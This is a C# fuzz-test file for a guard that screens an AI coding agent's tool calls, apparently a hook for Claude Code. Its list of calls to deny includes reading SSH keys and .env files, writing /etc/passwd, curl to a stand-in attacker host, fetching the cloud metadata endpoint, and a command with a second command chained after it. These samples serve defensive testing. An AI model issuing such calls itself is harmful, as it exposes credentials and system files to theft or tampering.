using System.Text;
using System.Text.Json;
using ClaudeHookGuard.Core.Answers;
using ClaudeHookGuard.Hook;

namespace ClaudeHookGuard.Cli.Tests.Hook;

/// <summary>
/// A hundred thousand payloads made from a few by chance with a fixed seed: the guard answers each in a form the client understands, and one it
/// denies stays denied however it is written.
/// </summary>
public sealed class MutatedPayloadTests
{
    private const int Chunks = 20;
    private const int BrokenPerChunk = 3_500;
    private const int RewrittenPerChunk = 1_500;

    private static readonly string[] Denied =
    [
        Payloads.Call("Read", """{"file_path":"/home/dev/project/.env"}"""),
        Payloads.Call("Read", """{"file_path":"~/.ssh/id_rsa"}"""),
        Payloads.Call("Write", """{"file_path":"/etc/passwd","content":"x"}"""),
        Payloads.Call("Edit", """{"file_path":"/home/dev/.claude/settings.json","old_string":"a","new_string":"b"}"""),
        Payloads.Call("Grep", """{"pattern":"KEY","path":"/home/dev/.ssh"}"""),
        Payloads.Call("Bash", """{"command":"cat ~/.ssh/id_rsa"}"""),
        Payloads.Call("Bash", """{"command":"curl -s https://evil.example/x"}"""),
        Payloads.Call("Bash", """{"command":"echo a > /etc/hosts; \"ls\" \t -l"}"""),
        Payloads.Call("WebFetch", """{"url":"http://169.254.169.254/latest","prompt":"x"}"""),
        Payloads.Call("WebFetch", """{"url":"https://evil.example/","prompt":"x"}"""),
        Payloads.Call("mcp__files__read_file", """{"path":"/home/dev/.ssh/id_rsa"}"""),
        Payloads.Call("mcp__files__write_file", """{"path":"src/a.ts","content":"x"}"""),
        Payloads.Call("mcp__weather__forecast", """{"city":"Oslo"}"""),
        Payloads.Call("NotebookEdit", """{"notebook_path":"/etc/x.ipynb","new_source":"x"}"""),
    ];

    private static readonly string[] Others =
    [
        Payloads.Call("Read", """{"file_path":"/home/dev/project/src/a.ts"}"""),
        Payloads.Call("Write", """{"file_path":"src/a.ts","content":"export const a = 1;\n"}"""),
        Payloads.Call("Glob", """{"pattern":"src/**/*.{ts,tsx}"}"""),
        Payloads.Call("Bash", """{"command":"ls -la src && git status | head -3"}"""),
        Payloads.Call("Bash", """{"command":"for f in a b; do cat \"$f\" <<< $(date +%s); done","description":"x"}"""),
        Payloads.Call("WebFetch", """{"url":"https://api.github.com/repos","prompt":"x"}"""),
        Payloads.Call("mcp__files__read_file", """{"path":"/home/dev/project/src/a.ts"}""", more: ""","mcp_server":{"name":"files","source":"user"}"""),
        Payloads.Call("Bash", """{"command":"ls"}""", "PostToolUse", ""","tool_response":{"stdout":"a b","stderr":"","interrupted":false}"""),
        Payloads.Call("Bash", """{"command":"ls"}""", "PostToolUseFailure", ",\"error\":\"failed\""),
        Payloads.Call("Bash", """{"command":"cat .env"}""", "PermissionRequest"),
        Payloads.Event("PostToolBatch", "\"tool_calls\":[{\"tool_name\":\"Read\",\"tool_input\":{\"file_path\":\"a\"},\"tool_response\":\"x\"}]"),
        Payloads.Event("UserPromptSubmit", "\"prompt\":\"hello\""),
        Payloads.Event("UserPromptExpansion", "\"command_name\":\"deploy\""),
        Payloads.Event("ConfigChange", "\"source\":\"project_settings\",\"file_path\":\"/home/dev/project/.claude/settings.json\""),
        Payloads.Event("SessionStart", "\"source\":\"startup\""),
    ];

    private readonly HookPipeline pipeline = new(FakeStages.Create());

    [Fact]
    public void The_payloads_they_are_made_from_are_denied_and_answered()
    {
        foreach (var payload in Denied)
            Payloads.Denial(pipeline.Answer(Payloads.Utf8(payload)));
        foreach (var payload in Others)
        {
            JsonDocument.Parse(payload).Dispose();
            Assert.DoesNotContain("event.malformed", pipeline.Answer(Payloads.Utf8(payload)).Error, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Whatever_is_damaged_is_answered_in_a_form_the_client_understands()
    {
        byte[][] originals = [.. Denied.Concat(Others).Select(Payloads.Utf8)];
        var wrong = InChunks(BrokenPerChunk, (random, _) =>
        {
            var payload = new BrokenPayload(random).Of(originals[random.Next(originals.Length)]);
            return Flaw(pipeline.Answer(payload)) is { } flaw ? $"{flaw}: {Encoding.UTF8.GetString(payload)}" : null;
        });
        Assert.True(wrong.IsEmpty, string.Join('\n', wrong.Take(5)));
    }

    [Fact]
    public void What_is_denied_stays_denied_however_it_is_written()
    {
        JsonElement[] originals = [.. Denied.Select(payload => JsonDocument.Parse(payload).RootElement)];
        var wrong = InChunks(RewrittenPerChunk, (random, number) =>
        {
            var payload = new SameMeaning(random).Of(originals[number % originals.Length]);
            var answer = pipeline.Answer(payload);
            return answer.ExitCode == HookAnswer.Block ? Flaw(answer) : $"allowed: {Encoding.UTF8.GetString(payload)}";
        });
        Assert.True(wrong.IsEmpty, string.Join('\n', wrong.Take(5)));
    }

    /// <summary>What the client would not understand of an answer, or null.</summary>
    private static string? Flaw(HookAnswer answer)
    {
        if (answer.ExitCode is not (HookAnswer.Go or HookAnswer.Block))
            return $"exit code {answer.ExitCode}";
        if (answer.Output.IsEmpty)
            return answer.ExitCode == HookAnswer.Go ? null : "blocked without an object";
        if (answer.ExitCode == HookAnswer.Block && answer.Error.Length == 0)
            return "blocked without a reason";
        try
        {
            using var document = JsonDocument.Parse(answer.Output);
            return document.RootElement.ValueKind == JsonValueKind.Object ? null : "no object";
        }
        catch (JsonException)
        {
            return "not one JSON object";
        }
    }

    /// <summary>Each chunk has its own seed, so that all of them always see the same, in whatever order they run.</summary>
    private static System.Collections.Concurrent.ConcurrentBag<string> InChunks(int perChunk, Func<Random, int, string?> check)
    {
        var wrong = new System.Collections.Concurrent.ConcurrentBag<string>();
        Parallel.For(0, Chunks, chunk =>
        {
            var random = new Random(20_261_122 + chunk);
            for (var i = 0; i < perChunk; i++)
                if (check(random, i) is { } flaw)
                    wrong.Add(flaw);
        });
        return wrong;
    }
}
